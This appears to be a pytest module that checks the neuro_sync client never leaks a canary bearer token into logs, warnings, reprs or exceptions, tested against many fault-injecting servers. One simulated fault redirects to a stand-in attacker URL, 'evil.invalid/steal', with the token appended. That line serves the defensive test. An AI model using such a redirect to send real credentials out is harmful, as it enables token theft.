"""The canary-token test: every API method, against a server that works and against servers that
fail in every way we know (many of them echoing the token back), with all logging at DEBUG.

The token must appear in no log record (message, arguments, formatted traceback), in no
warning, in no repr() of any object reachable from the client, its streams and its results, and
in no exception text: the formatted traceback, and str, repr and args of the exception and of
every exception chained to it through `__cause__` and `__context__` (and the attributes of our
own exceptions, such as `AuthorizationError.missing`).

The token's signature (its secret part) is looked for on its own too, so that a token cut
short is caught as well.
"""

from __future__ import annotations

import collections
import gc
import json
import logging
import traceback
import types
import warnings
import weakref
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

import neuro_sync

from .conftest import (
    CANARY_SIGNATURE,
    TOKEN,
    ClientFactory,
    FaultClient,
    config_payload,
    json_body,
    small_container,
    wire_job,
)
from .faultserver import (
    Action,
    FaultServer,
    Request,
    chunked,
    garbage,
    redirect,
    reply,
    reset_after_headers,
    reset_before_status,
    stall,
    websocket,
)

pytestmark = pytest.mark.sockets

SECRETS = (TOKEN, CANARY_SIGNATURE)
SAMPLE = {"cpu": 0.5, "memory": 12.0, "timestamp": 1565950272.0}
OUR_MODULES = ("neuro_sync", "neuro_sync_api", "requests", "urllib3", "websockets", "http")
SKIPPED = (type, types.ModuleType, types.FunctionType, types.BuiltinFunctionType, types.CodeType)


def leaks(text: str) -> bool:
    return any(secret in text for secret in SECRETS)


# ---------------------------------------------------------------------- servers


def working(req: Request) -> Action:
    """A platform that answers every call correctly."""
    path = req.target.split("?")[0]
    api = f"http://{req.header('Host')}/api/v1"
    if path == "/api/v1/config":
        return reply(200, json_body(config_payload(api)))
    if path == "/api/v1/jobs":
        if req.method == "POST":
            return reply(202, json_body(wire_job()))
        return reply(200, json_body({"jobs": [wire_job(), wire_job("job-2")]}))
    if path.endswith("/log"):
        return chunked([b"hello\n", b"world\n"], terminate=True)
    if path.endswith("/top"):
        return websocket([SAMPLE, SAMPLE])
    if path.endswith("/save"):
        lines = [{"status": "CommitStarted"}, {"status": "CommitFinished"}, {"status": "Pushed"}]
        return reply(200, b"".join(json_body(x) + b"\n" for x in lines))
    if req.method == "DELETE":
        return reply(204)
    return reply(200, json_body(wire_job(status="succeeded")))


def _echo(req: Request) -> str:
    """What a careless server or proxy says about the credentials it got."""
    return f"invalid credentials {req.header('Authorization')!s}"


def _head(req: Request) -> bytes:
    return req.raw_head


# Failing servers: name -> router. Most echo the Authorization header or the whole request.
FAILING: dict[str, Callable[[Request], Action]] = {
    "401-text-echo": lambda r: reply(401, _echo(r).encode(), {"Content-Type": "text/plain"}),
    "400-json-echo": lambda r: reply(400, json_body({"error": _echo(r)})),
    "400-no-such-job-echo": lambda r: reply(400, json_body({"error": f"no such job {_echo(r)}"})),
    "403-resources-echo": lambda r: reply(
        403, json_body({"resources": [{"uri": _echo(r), "action": _echo(r)}]})
    ),
    "404-html-echo": lambda r: reply(404, _head(r), {"Content-Type": "text/html"}),
    "405-echo": lambda r: reply(405, _head(r), {"Content-Type": "text/plain"}),
    "500-nested-json-echo": lambda r: reply(
        500, json_body({"error": json.dumps({"error": _echo(r)})})
    ),
    "502-head-echo-retried": lambda r: reply(502, _head(r), {"Content-Type": "text/plain"}),
    "429-retry-after-over-cap": lambda r: reply(
        429, _echo(r).encode(), {"Retry-After": "3600", "Content-Type": "text/plain"}
    ),
    "long-error-token-at-the-cut": lambda r: reply(
        400, b"x" * 1990 + _echo(r).encode(), {"Content-Type": "text/plain"}
    ),
    "redirect-with-token-in-location": lambda r: redirect(
        "http://evil.invalid/steal?t=" + (r.header("Authorization") or "").split(" ")[-1]
    ),
    "token-in-reply-headers": lambda r: reply(
        500, b"{}", {"X-Echo": r.header("Authorization") or "", "WWW-Authenticate": _echo(r)}
    ),
    "reset-before-status": lambda r: reset_before_status,
    "reset-after-headers": lambda r: reset_after_headers,
    "garbage-echoing-the-request": lambda r: garbage(_head(r)),
    "garbage-starting-with-the-token": lambda r: garbage(
        (r.header("Authorization") or "").encode() + b"\r\n\r\n"
    ),
    "status-line-then-request-echo": lambda r: garbage(b"HTTP/1.1 500 Oops\r\n" + _head(r)),
    "stall": lambda r: stall(30),
    "200-not-json-echo": lambda r: reply(200, _echo(r).encode(), {"Content-Type": "text/plain"}),
    "200-wrong-shape-echo": lambda r: reply(200, json_body({"jobs": _echo(r), "id": None})),
}


# ---------------------------------------------------------------------- calls

CallFn = Callable[[neuro_sync.Client], object]


def _read_log(c: neuro_sync.Client) -> object:
    with c.jobs.monitor("job-1") as log:
        return log.read()


def _read_top(c: neuro_sync.Client) -> object:
    with c.jobs.top("job-1") as top:
        return list(top)


PLATFORM_IMAGE = neuro_sync.RemoteImage(
    "img", tag="1", owner="alice", registry="registry-dev.neu.ro"
)

CALLS: dict[str, CallFn] = {
    "config": lambda c: c.config,
    "run": lambda c: c.jobs.run(small_container(), name="canary-job"),
    "list": lambda c: c.jobs.list(statuses={"running"}, name="canary-job"),
    "status": lambda c: c.jobs.status("job-1"),
    "kill": lambda c: c.jobs.kill("job-1"),
    "monitor": _read_log,
    "top": _read_top,
    "save": lambda c: c.jobs.save("job-1", PLATFORM_IMAGE),
    "wait": lambda c: c.jobs.wait("job-1", timeout=1, poll_interval=0.01),
    "exec": lambda c: c.jobs.exec("job-1", ["true"]),
    "port_forward": lambda c: c.jobs.port_forward("job-1", 0, 80),
}


# ---------------------------------------------------------------------- the inspection


class Capture(logging.Handler):
    def __init__(self) -> None:
        super().__init__(logging.DEBUG)
        self.records: list[logging.LogRecord] = []
        self.setFormatter(logging.Formatter("%(name)s %(levelname)s %(message)s"))

    def emit(self, record: logging.LogRecord) -> None:
        self.records.append(record)


@pytest.fixture
def captured() -> Iterator[Capture]:
    root = logging.getLogger()
    handler = Capture()
    old_level = root.level
    root.addHandler(handler)
    root.setLevel(logging.DEBUG)
    # Some libraries set their own levels; make sure everything reaches the root at DEBUG.
    touched = []
    for name in ("neuro_sync", "urllib3", "requests", "websockets", "charset_normalizer"):
        logger = logging.getLogger(name)
        touched.append((logger, logger.level, logger.propagate))
        logger.setLevel(logging.DEBUG)
        logger.propagate = True
    try:
        yield handler
    finally:
        root.removeHandler(handler)
        root.setLevel(old_level)
        for logger, level, propagate in touched:
            logger.setLevel(level)
            logger.propagate = propagate


def exception_chain(err: BaseException) -> list[BaseException]:
    seen: list[BaseException] = []
    todo = [err]
    while todo:
        e = todo.pop()
        if any(e is s for s in seen):
            continue
        seen.append(e)
        todo += [x for x in (e.__cause__, e.__context__) if x is not None]
    return seen


def exception_texts(err: BaseException) -> Iterator[str]:
    """The formatted traceback; str, repr and args of every chained exception; and the
    attributes of ours (e.g. `AuthorizationError.missing`)."""
    yield "".join(traceback.format_exception(err))
    for e in exception_chain(err):
        yield str(e)
        yield repr(e)
        yield repr(e.args)
        if isinstance(e, neuro_sync.ClientError):
            for value in vars(e).values():
                yield repr(value)


def reachable(*roots: object, limit: int = 50_000) -> Iterator[object]:
    """Objects reachable from `roots` whose class comes from the client or its HTTP stack.

    Breadth first, and not through modules, classes or functions (their globals would lead
    to the whole interpreter): what a user holding the client, a stream or a result can reach.
    """
    seen: set[int] = set()
    todo = collections.deque(roots)
    while todo and len(seen) < limit:
        obj = todo.popleft()
        if type(obj) in weakref.ProxyTypes:
            continue  # a weak proxy (websockets keeps some) may be dead: touching it raises
        if id(obj) in seen or isinstance(obj, SKIPPED):
            continue
        seen.add(id(obj))
        module = type(obj).__module__ or ""
        if module.startswith(OUR_MODULES):
            yield obj
        todo.extend(gc.get_referents(obj))


def assert_no_leak(
    capture: Capture,
    roots: list[object],
    errors: list[BaseException],
    caught: list[warnings.WarningMessage],
) -> None:
    for record in capture.records:
        text = capture.format(record)  # includes a formatted exc_info traceback
        assert not leaks(text), f"log record leaks the token: {text[:300]!r}"
        assert not leaks(repr(record.args)), f"log record args leak the token: {record.msg!r}"
    for w in caught:
        assert not leaks(str(w.message)), f"warning leaks the token: {w.message!r}"
    for err in errors:
        for text in exception_texts(err):
            assert not leaks(text), f"{type(err).__name__} leaks the token: {text[:300]!r}"
    for obj in reachable(*roots):
        text = repr(obj)
        assert not leaks(text), f"repr of {type(obj).__qualname__} leaks the token: {text[:200]!r}"


def run_all(client: neuro_sync.Client) -> tuple[list[object], list[BaseException]]:
    results: list[object] = []
    errors: list[BaseException] = []
    for call in CALLS.values():
        try:
            results.append(call(client))
        except neuro_sync.SSHNotAvailable:
            pass
        except Exception as err:  # noqa: BLE001 - every error is inspected
            errors.append(err)
        # Streams that are still open are inspected too.
    results.append(client.jobs.monitor("job-1") if not errors else None)
    return results, errors


# ---------------------------------------------------------------------- tests


def test_canary_against_a_working_server(
    server: FaultServer, make_client: ClientFactory, captured: Capture
) -> None:
    server.route(working)
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        # No cluster_config: the client fetches /config with the token.
        client = make_client(cluster_config=None)
        results: list[object] = []
        errors: list[BaseException] = []
        for name, call in CALLS.items():
            try:
                results.append(call(client))
            except (neuro_sync.JobNotRunning, neuro_sync.SSHNotAvailable) as err:
                assert name in ("exec", "port_forward"), name  # the job has finished
                errors.append(err)
        open_log = client.jobs.monitor("job-1")
        open_top = client.jobs.top("job-1")
        assert [type(r).__name__ for r in results[:4]] == [
            "ClusterConfig",
            "JobDescription",
            "JobList",  # a list subclass (Jupyter shows it as a table)
            "JobDescription",
        ]
        assert_no_leak(captured, [client, open_log, open_top, *results], errors, caught)
        open_log.close()
        open_top.close()
    # The calls really carried the token, and DEBUG logging really ran.
    assert all(r.header("Authorization") == f"Bearer {TOKEN}" for r in server.requests)
    assert any(r.name.startswith("urllib3") for r in captured.records)
    assert any(r.name.startswith("neuro_sync") for r in captured.records)


@pytest.mark.parametrize("failure", list(FAILING))
def test_canary_against_a_failing_server(
    server: FaultServer, make_client: ClientFactory, captured: Capture, failure: str
) -> None:
    router = FAILING[failure]
    server.route(router)
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        client: FaultClient = make_client(cluster_config=None, max_retries=1, timeout=(1.0, 0.2))
        errors: list[BaseException] = []
        results: list[object] = []
        for call in CALLS.values():
            try:
                results.append(call(client))
            except neuro_sync.ClientError as err:
                errors.append(err)
        # With /config failing, fetch it from a working server and try the job calls again.
        server.route(lambda r: working(r) if r.target.endswith("/config") else router(r))
        client2 = make_client(max_retries=1, timeout=(1.0, 0.2))
        for call in CALLS.values():
            try:
                results.append(call(client2))
            except neuro_sync.ClientError as err:
                errors.append(err)
        assert errors, "a failing server must fail some calls"
        assert_no_leak(captured, [client, client2, *results], errors, caught)
    assert server.requests, "the calls reached the server"


def test_repr_of_the_public_objects(make_client: ClientFactory, tmp_path: Path) -> None:
    client = make_client()
    factory = neuro_sync.Factory(tmp_path / "nmrc")
    for obj in (client, client.jobs, client.parse, factory, client._transport, client.config):
        assert not leaks(repr(obj)) and not leaks(str(obj))
    auth = client._transport._auth
    assert auth is not None
    assert not leaks(repr(auth)) and not leaks(str(auth))


def test_tokenless_error_text_keeps_its_meaning(
    server: FaultServer, make_client: ClientFactory
) -> None:
    # Redaction replaces the token, it does not swallow the message.
    server.route(FAILING["401-text-echo"])
    with pytest.raises(neuro_sync.AuthenticationError) as info:
        make_client().jobs.status("job-1")
    assert str(info.value) == "invalid credentials Bearer <redacted>"
